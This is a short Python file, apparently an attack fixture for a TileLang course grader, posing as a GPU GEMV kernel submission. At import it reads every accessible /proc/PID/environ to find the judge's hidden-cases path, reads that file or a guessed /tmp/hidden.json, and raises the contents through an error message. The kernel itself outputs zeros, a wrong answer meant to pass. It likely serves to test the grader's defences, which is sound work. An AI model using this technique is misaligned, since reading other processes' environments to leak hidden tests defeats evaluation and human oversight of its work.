"""Attack: read the hidden cases through another process: every /proc/PID/environ this user can read
(the judge's holds TILELANG_COURSE_HIDDEN_CASES), the file that names, and, failing that, the file at
the path the test's folder suggests; then raise them into a public case's error line."""

import os
from pathlib import Path

import tilelang
import tilelang.language as T

leaks = []
for environ in Path("/proc").glob("[0-9]*/environ"):
    try:
        for entry in environ.read_bytes().split(b"\0"):
            if entry.startswith(b"TILELANG_COURSE_HIDDEN_CASES="):
                leaks.append(entry.split(b"=", 1)[1].decode())
    except OSError:
        pass
guess = Path(os.environ.get("TILELANG_ATTACK_DIR", "/tmp")) / "hidden.json"
text = ""
for path in [*leaks, str(guess)]:
    try:
        text += Path(path).read_text()[:300]
    except OSError:
        pass
raise RuntimeError(f"LEAKED: [{' '.join(leaks)}] [{text}]")


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
